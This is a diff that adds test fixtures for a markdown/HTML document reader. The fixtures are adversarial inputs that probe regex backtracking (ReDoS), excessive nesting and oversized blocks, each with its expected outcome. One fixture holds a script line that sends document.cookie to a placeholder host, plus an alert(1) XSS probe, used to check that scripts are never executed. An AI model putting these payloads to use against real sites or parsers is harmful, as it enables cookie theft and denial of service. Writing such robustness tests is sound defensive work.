@@ -673,6 +673,7 @@ def _cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
         ),
         _write("dup/zz_copy.txt", article("Duplicate").encode()),
     )
+    yield from _reader_cases(big)
 
 
 def _noop(root: Path) -> None:
@@ -716,3 +717,124 @@ def _is_fifo(path: Path) -> bool:
         return stat.S_ISFIFO(path.lstat().st_mode)
     except OSError:
         return False
+
+
+# --------------------------------------------------------------------------- reader cases (issues 12 and 14)
+
+ADVERSARIAL_BLANKS = 32_768  # the 32 KB line of issue 14
+
+
+def adversarial_lines(k: int = ADVERSARIAL_BLANKS) -> dict[str, str]:
+    """Lines that made a backtracking regex of the reader quadratic (or could), by the rule they target."""
+    blanks = " " * k
+    return {
+        "delimiter_row": f"{blanks}-x",  # after a table row: the old _DELIMITER_ROW took 38 s at 32k
+        "whole_line_bold": f"**Bold**{blanks}x",
+        "separator": f"- Name{blanks}x",  # the old "\\s*[—–]\\s*" separator search
+        "nested_markers": "-" + " -" * (k // 2) + "x",  # markdown-it rescans the line per nested list
+        "setext": "=" * k + " x",
+        "enumerator": f"({blanks}",
+        "bullet": f"•{blanks}",
+        "pipes": "|" * k + "x",
+        "colons": ":" * k + "-x",
+        "html_lt": "<div>" + "<a" * (k // 2),
+    }
+
+
+def _adversarial_article(name: str, line: str) -> bytes:
+    title = f"Adversarial {name.replace('_', ' ').title()} Briefing"
+    return f"{title}\n| a | b |\n|---|---|\n| 1 | 2 |\n{line}\n- closing item\n".encode()
+
+
+def _nested_html_lists(levels: int = 10_000) -> bytes:
+    return ("Deep Html Briefing\n\n" + "<ul><li>level\n" * levels).encode()
+
+
+def _big_html_block() -> bytes:
+    rows = "".join(f"<tr><td>Row {i}</td><td>Allied readiness &amp; deterrence</td></tr>\n" for i in range(18_000))
+    return f"Big Html Briefing\n<table>\n<tr><th>Area</th><th>Focus</th></tr>\n{rows}</table>\n".encode()
+
+
+def _reader_cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
+    ok, quarantine = "ok", "quarantine"
+    for name, line in adversarial_lines().items():
+        path = f"reader/adversarial_{name}.md"
+        if name == "nested_markers":
+            yield (
+                Expect(
+                    path,
+                    quarantine,
+                    "nesting_too_deep",
+                    detected_by="parse",
+                    encoding="utf-8",
+                    note="16,384 list markers on one line: refused before markdown-it nests them (quadratic)",
+                ),
+                _write(path, _adversarial_article(name, line)),
+            )
+            continue
+        yield (
+            Expect(
+                path,
+                ok,
+                encoding="utf-8",
+                title=f"Adversarial {name.replace('_', ' ').title()} Briefing",
+                first_row_line=4,
+                note="a 32 KB line aimed at one reader rule: parsed in linear time",
+                fixed_bug="_DELIMITER_ROW backtracked O(k^2) on a long blank run ending in '-x': 38 s for 32 KB"
+                if name == "delimiter_row"
+                else None,
+            ),
+            _write(path, _adversarial_article(name, line)),
+        )
+    yield (
+        Expect(
+            "reader/html_unterminated_table.md",
+            ok,
+            encoding="utf-8",
+            title="Unterminated Table Briefing",
+            first_row_line=4,
+            note="<table> never closed: read up to the blank line, markdown resumes after it",
+        ),
+        _write(
+            "reader/html_unterminated_table.md",
+            b"Unterminated Table Briefing\n<table>\n<tr><th>Area</th></tr>\n<tr><td>Cyber</td></tr>\n\nAfter.\n",
+        ),
+    )
+    yield (
+        Expect(
+            "reader/html_nested_10000_ul.md",
+            quarantine,
+            "nesting_too_deep",
+            detected_by="parse",
+            encoding="utf-8",
+            note="10,000 nested <ul>: beyond libxml2's depth bound and max_list_depth",
+        ),
+        _write_lazy("reader/html_nested_10000_ul.md", _nested_html_lists),
+    )
+    yield (
+        Expect(
+            "reader/html_script.md",
+            ok,
+            encoding="utf-8",
+            title="Script Briefing",
+            text_contains=("<script>",),
+            note="<script> content is dropped, never executed",
+        ),
+        _write(
+            "reader/html_script.md",
+            b"Script Briefing\n<script>\nfetch('http://x/'+document.cookie)\n- not an item\n</script>\n"
+            b"<p>Allies met.<script>alert(1)</script></p>\n",
+        ),
+    )
+    if big:
+        yield (
+            Expect(
+                "reader/html_one_megabyte_block.md",
+                ok,
+                encoding="utf-8",
+                title="Big Html Briefing",
+                first_row_line=4,
+                note="one 1 MB HTML block (18,000 table rows), read whole",
+            ),
+            _write_lazy("reader/html_one_megabyte_block.md", _big_html_block),
+        )
